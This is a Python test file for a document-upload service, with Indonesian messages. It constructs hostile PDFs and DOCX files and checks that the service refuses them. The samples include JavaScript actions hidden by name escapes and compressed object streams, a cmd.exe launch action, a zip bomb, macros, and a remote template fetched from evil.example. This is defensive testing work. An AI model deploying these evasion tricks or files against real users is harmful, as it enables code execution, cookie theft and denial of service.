"""Hostile PDFs and Office files, made here byte by byte and uploaded as an attacker would: through
the API (multipart) and through the resumable upload (tus). Each must be refused with a reason a
person understands, and leave nothing behind.

The PDFs hide what acts on opening the ways the format allows: names written with ``#xx``
escapes (``/S /#4Aava#53cript``), actions inside compressed object streams (no marker in the raw
bytes at all), on a page's or a form field's ``/AA``, in the ``/JavaScript`` name tree, launch
actions, embedded files and file-attachment annotations, rich media, XFA forms.
The Office files are ZIP archives: a "zip bomb" (a 500 MB part of zeros in a small DOCX), too
many parts, macros, ActiveX, a remote template.
"""

from __future__ import annotations

import base64
import io
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from assets import inspection
from assets.models import Asset
from assets.services import folder_create
from tests.assets import media

pytestmark = pytest.mark.django_db

TUS = {"HTTP_TUS_RESUMABLE": "1.0.0"}

CATALOG = "<< /Type /Catalog /Pages 2 0 R{extra} >>"
PAGES = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100]{extra} >>"


# --- making PDFs --------------------------------------------------------------------------------


def _body(obj: str | bytes) -> bytes:
    return obj.encode("latin-1") if isinstance(obj, str) else obj


def pdf(objects: list[str | bytes], *, unlisted: bytes = b"") -> bytes:
    """A PDF with a classic cross-reference table; object 1 is the catalog. ``unlisted`` goes in
    the body without an entry in the table."""
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for number, obj in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + _body(obj) + b"\nendobj\n"
    out += unlisted
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += (
        f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    )
    return out


def pdf_packed(objects: list[str], packed: set[int]) -> bytes:
    """A PDF 1.5 whose objects numbered in ``packed`` sit in a compressed object stream, with a
    cross-reference stream: none of their names appear in the file's raw bytes."""
    count = len(objects)
    stream_number, xref_number = count + 1, count + 2
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    entries: dict[int, tuple[int, int, int]] = {}
    for number, obj in enumerate(objects, start=1):
        if number in packed:
            continue
        entries[number] = (1, len(out), 0)
        out += f"{number} 0 obj\n".encode() + _body(obj) + b"\nendobj\n"
    inside = sorted(packed)
    heads, bodies, position = [], b"", 0
    for index, number in enumerate(inside):
        heads.append(f"{number} {position}")
        body = _body(objects[number - 1]) + b"\n"
        bodies += body
        position += len(body)
        entries[number] = (2, stream_number, index)
    head = (" ".join(heads) + "\n").encode()
    data = zlib.compress(head + bodies)
    entries[stream_number] = (1, len(out), 0)
    out += (
        f"{stream_number} 0 obj\n<< /Type /ObjStm /N {len(inside)} /First {len(head)} "
        f"/Filter /FlateDecode /Length {len(data)} >>\nstream\n".encode()
        + data
        + b"\nendstream\nendobj\n"
    )
    entries[xref_number] = (1, len(out), 0)
    rows = b"\x00" + (0).to_bytes(4, "big") + (65535).to_bytes(2, "big")
    for number in range(1, xref_number + 1):
        kind, field2, field3 = entries[number]
        rows += bytes([kind]) + field2.to_bytes(4, "big") + field3.to_bytes(2, "big")
    xref_at = len(out)
    out += (
        f"{xref_number} 0 obj\n<< /Type /XRef /Size {xref_number + 1} /W [1 4 2] "
        f"/Root 1 0 R /Length {len(rows)} >>\nstream\n".encode()
        + rows
        + f"\nendstream\nendobj\nstartxref\n{xref_at}\n%%EOF\n".encode()
    )
    return out


def stream(data: str, extra: str = "") -> bytes:
    raw = data.encode()
    return f"<< /Length {len(raw)}{extra} >>\nstream\n".encode() + raw + b"\nendstream"


JS = "app.alert\\(document.cookie\\);"

HOSTILE_PDFS = {
    # The attack of the report: the action's names written with escapes.
    "escaped-openaction": pdf(
        [
            CATALOG.format(extra=" /OpenAction 4 0 R"),
            PAGES,
            PAGE.format(extra=""),
            f"<< /Type /Action /S /#4Aava#53cript /J#53 ({JS}) >>",
        ]
    ),
    # JavaScript on a page's "open" action, packed in a compressed object stream.
    "page-aa-packed": pdf_packed(
        [
            CATALOG.format(extra=""),
            PAGES,
            PAGE.format(extra=" /AA << /O 4 0 R >>"),
            f"<< /S /JavaScript /JS ({JS}) >>",
        ],
        packed={3, 4},
    ),
    # A form field's keystroke action, packed too.
    "field-aa-packed": pdf_packed(
        [
            CATALOG.format(extra=" /AcroForm << /Fields [4 0 R] >>"),
            PAGES,
            PAGE.format(extra=" /Annots [4 0 R]"),
            "<< /Type /Annot /Subtype /Widget /FT /Tx /T (nama) /Rect [0 0 50 20] "
            f"/P 3 0 R /AA << /K << /S /JavaScript /JS ({JS}) >> >> >>",
        ],
        packed={4},
    ),
    # The document-level name tree of scripts, with its key escaped.
    "names-tree": pdf(
        [
            CATALOG.format(extra=" /Names << /Java#53cript << /Names [(a) 4 0 R] >> >>"),
            PAGES,
            PAGE.format(extra=""),
            f"<< /S /JavaScript /JS ({JS}) >>",
        ]
    ),
    # An annotation whose action starts a program.
    "launch": pdf_packed(
        [
            CATALOG.format(extra=""),
            PAGES,
            PAGE.format(extra=" /Annots [4 0 R]"),
            "<< /Type /Annot /Subtype /Link /Rect [0 0 200 100] "
            "/A << /S /Launch /F (C:\\\\Windows\\\\System32\\\\cmd.exe) >> >>",
        ],
        packed={4},
    ),
    # A file carried inside the PDF, listed in the EmbeddedFiles name tree.
    "embedded-file": pdf(
        [
            CATALOG.format(extra=" /Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>"),
            PAGES,
            PAGE.format(extra=""),
            "<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
            stream("MZ-not-really-a-program", " /Type /EmbeddedFile"),
        ]
    ),
    # A file-attachment annotation, its subtype escaped, packed.
    "file-attachment-packed": pdf_packed(
        [
            CATALOG.format(extra=""),
            PAGES,
            PAGE.format(extra=" /Annots [4 0 R]"),
            "<< /Type /Annot /Subtype /File#41ttachment /Rect [0 0 10 10] "
            "/FS << /Type /Filespec /F (a.txt) >> >>",
        ],
        packed={4},
    ),
    # Rich media (Flash) in an annotation.
    "richmedia": pdf_packed(
        [
            CATALOG.format(extra=""),
            PAGES,
            PAGE.format(extra=" /Annots [4 0 R]"),
            "<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] "
            "/RichMediaContent << /Assets << /Names [] >> >> >>",
        ],
        packed={4},
    ),
    # An XFA form (it runs its own scripts) in the AcroForm.
    "xfa": pdf_packed(
        [
            CATALOG.format(extra=" /AcroForm 4 0 R"),
            PAGES,
            PAGE.format(extra=""),
            "<< /Fields [] /X#46A 5 0 R >>",
            stream("<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>").decode("latin-1"),
        ],
        packed={4},
    ),
}


def plain_pdf() -> bytes:
    return pdf([CATALOG.format(extra=""), PAGES, PAGE.format(extra="")])


def encrypted_pdf(*, user_password: str, javascript: bool = False) -> bytes:
    from pypdf import PdfWriter
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    writer = PdfWriter()
    writer.add_blank_page(200, 100)
    if javascript:
        action = DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject("app.alert(1);"),
            }
        )
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    writer.encrypt(user_password=user_password, owner_password="pemilik", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# --- making Office files ------------------------------------------------------------------------

DOCX_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.document.main+xml"/></Types>'
)


def docx(extra: dict[str, bytes] | None = None, *, zeros: int = 0, parts: int = 0) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", DOCX_TYPES)
        archive.writestr("word/document.xml", "<w:document/>")
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
        if zeros:
            block = bytes(1024 * 1024)
            with archive.open("word/media/image1.png", "w", force_zip64=True) as part:
                for _ in range(zeros // len(block)):
                    part.write(block)
        for number in range(parts):
            archive.writestr(f"word/p{number}.xml", "")
    return out.getvalue()


REMOTE_TEMPLATE = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/attachedTemplate" Target="https://evil.example/t.dotm" '
    b'TargetMode="External"/></Relationships>'
)
HYPERLINK = REMOTE_TEMPLATE.replace(b"attachedTemplate", b"hyperlink").replace(b"t.dotm", b"berita")


# --- uploading as an attacker would -------------------------------------------------------------


def api_upload(client, folder, data: bytes, name: str):
    return client.post(
        "/api/v1/assets/",
        {"file": SimpleUploadedFile(name, data), "folder": folder.pk},
        HTTP_ACCEPT_LANGUAGE="id",
    )


def tus_upload(client, folder, data: bytes, name: str) -> dict:
    meta = ",".join(
        f"{k} {base64.b64encode(str(v).encode()).decode()}"
        for k, v in {"filename": name, "folder": folder.pk}.items()
    )
    created = client.post(
        "/library/uploads/", HTTP_UPLOAD_LENGTH=str(len(data)), HTTP_UPLOAD_METADATA=meta, **TUS
    )
    assert created.status_code == 201, created.content
    url = created["Location"]
    step = 256 * 1024
    for offset in range(0, len(data), step):
        answer = client.generic(
            "PATCH",
            url,
            data[offset : offset + step],
            content_type="application/offset+octet-stream",
            HTTP_UPLOAD_OFFSET=str(offset),
            **TUS,
        )
        assert answer.status_code == 204, answer.content
    return client.get(url).json()["result"]


@pytest.fixture
def upload_dir(settings, tmp_path):
    settings.ASSET_UPLOAD_DIR = tmp_path / "uploads"
    return settings.ASSET_UPLOAD_DIR


@pytest.fixture
def pkp_folder(divisions, editor):
    return folder_create(actor=editor, name="Kegiatan PKP", division=divisions["PKP"])


@pytest.fixture
def staf_client(client_for, staf):
    return client_for(staf)


def assert_refused_through_both_doors(client, folder, data: bytes, name: str, words: list[str]):
    answer = api_upload(client, folder, data, name)
    assert answer.status_code == 400, answer.content
    reason = " ".join(answer.json()["file"])
    for word in words:
        assert word in reason, reason
    result = tus_upload(client, folder, data, "lagi-" + name)
    assert result["status"] == "refused" and result["message"] == reason
    assert not Asset.objects.exists()


# --- PDFs ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("case", sorted(HOSTILE_PDFS))
def test_a_hostile_pdf_is_refused_whatever_its_disguise(case, staf_client, pkp_folder, upload_dir):
    words = {
        "launch": ["memulai program"],
        "embedded-file": ["berkas yang disematkan"],
        "file-attachment-packed": ["berkas yang disematkan"],
        "richmedia": ["media kaya"],
        "xfa": ["formulir XFA"],
    }.get(case, ["JavaScript"])
    assert_refused_through_both_doors(staf_client, pkp_folder, HOSTILE_PDFS[case], "a.pdf", words)


def test_the_packed_attacks_leave_no_marker_in_the_raw_bytes():
    """Why a parser is needed: the old byte search finds nothing in these files."""
    for case in ("page-aa-packed", "field-aa-packed", "launch", "xfa"):
        data = HOSTILE_PDFS[case]
        assert b"/JavaScript" not in data and b"/JS" not in data and b"/Launch" not in data
        assert b"/XFA" not in data


def test_a_password_locked_pdf_is_refused_and_says_why(staf_client, pkp_folder, upload_dir):
    answer = api_upload(staf_client, pkp_folder, encrypted_pdf(user_password="rahasia"), "k.pdf")
    assert answer.status_code == 400
    assert "kata sandi" in " ".join(answer.json()["file"])
    assert not Asset.objects.exists()


def test_an_encrypted_pdf_that_opens_without_password_is_read_through(
    staf_client, pkp_folder, upload_dir
):
    hostile = encrypted_pdf(user_password="", javascript=True)
    assert_refused_through_both_doors(staf_client, pkp_folder, hostile, "e.pdf", ["JavaScript"])
    answer = api_upload(staf_client, pkp_folder, encrypted_pdf(user_password=""), "ok.pdf")
    assert answer.status_code == 201, answer.content


def test_ordinary_pdfs_are_still_accepted(staf_client, pkp_folder, upload_dir):
    assert api_upload(staf_client, pkp_folder, plain_pdf(), "a.pdf").status_code == 201
    assert api_upload(staf_client, pkp_folder, media.pdf(3), "b.pdf").status_code == 201
    packed = pdf_packed(
        [CATALOG.format(extra=""), PAGES, PAGE.format(extra=""), "<< /Producer (Kominfo) >>"],
        packed={3, 4},
    )
    assert tus_upload(staf_client, pkp_folder, packed, "c.pdf")["status"] == "created"


def test_the_raw_bytes_are_read_for_escaped_names_the_parser_does_not_reach(tmp_path):
    """An object no cross-reference points at (a viewer's repair might still find it)."""
    data = pdf(
        [CATALOG.format(extra=""), PAGES, PAGE.format(extra="")],
        unlisted=b"9 0 obj\n<< /S /#4Aava#53cript /JS (x) >>\nendobj\n",
    )
    path = tmp_path / "a.pdf"
    path.write_bytes(data)
    assert "javascript" in inspection.pdf_risks(str(path))


# --- Office files -------------------------------------------------------------------------------


def test_a_zip_bomb_docx_is_refused(staf_client, pkp_folder, upload_dir):
    """The report's file: a small DOCX that unpacks to 500 MB of zeros."""
    bomb = docx(zeros=500 * 1024 * 1024)
    assert len(bomb) < 1024 * 1024
    assert_refused_through_both_doors(staf_client, pkp_folder, bomb, "laporan.docx", ["500 MB"])


def test_a_docx_past_the_unpacked_size_limit_is_refused(
    staf_client, pkp_folder, upload_dir, monkeypatch
):
    monkeypatch.setattr(inspection, "OFFICE_MAX_UNCOMPRESSED", 4 * 1024 * 1024)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("[Content_Types].xml", DOCX_TYPES)
        archive.writestr("word/document.xml", "<w:document/>")
        archive.writestr("word/media/video.mp4", bytes(range(256)) * (5 * 4096))
    answer = api_upload(staf_client, pkp_folder, out.getvalue(), "besar.docx")
    assert answer.status_code == 400 and "4 MB" in " ".join(answer.json()["file"])


def test_a_docx_with_thousands_of_parts_is_refused(staf_client, pkp_folder, upload_dir):
    answer = api_upload(staf_client, pkp_folder, docx(parts=5_001), "banyak.docx")
    assert answer.status_code == 400 and "5003" in " ".join(answer.json()["file"])


@pytest.mark.parametrize(
    "part, data, word",
    [
        ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macro", "makro"),
        ("word/activeX/activeX1.bin", b"\xd0\xcf\x11\xe0control", "ActiveX"),
        ("word/_rels/settings.xml.rels", REMOTE_TEMPLATE, "internet"),
    ],
)
def test_office_files_that_run_or_fetch_code_are_refused(
    part, data, word, staf_client, pkp_folder, upload_dir
):
    assert_refused_through_both_doors(
        staf_client, pkp_folder, docx({part: data}), "surat.docx", [word]
    )


def test_ordinary_office_files_are_still_accepted(staf_client, pkp_folder, upload_dir):
    with_link = docx({"word/_rels/document.xml.rels": HYPERLINK})
    assert api_upload(staf_client, pkp_folder, with_link, "a.docx").status_code == 201
    for kind in ("xlsx", "pptx"):
        answer = api_upload(staf_client, pkp_folder, media.office(kind), f"b.{kind}")
        assert answer.status_code == 201, answer.content


def test_a_pdf_that_cannot_be_read_through_is_refused(staf_client, pkp_folder, upload_dir):
    """The viewer (pdfium) opens it, the parser cannot read it through (5,000 nested arrays):
    what cannot be read cannot be shown to be harmless, so it is refused and says why."""
    deep = pdf(
        [CATALOG.format(extra=" /X " + "[" * 5000 + "]" * 5000), PAGES, PAGE.format(extra="")]
    )
    answer = api_upload(staf_client, pkp_folder, deep, "dalam.pdf")
    assert answer.status_code == 400
    assert "tidak dapat dibaca seluruhnya" in " ".join(answer.json()["file"])
    assert not Asset.objects.exists()
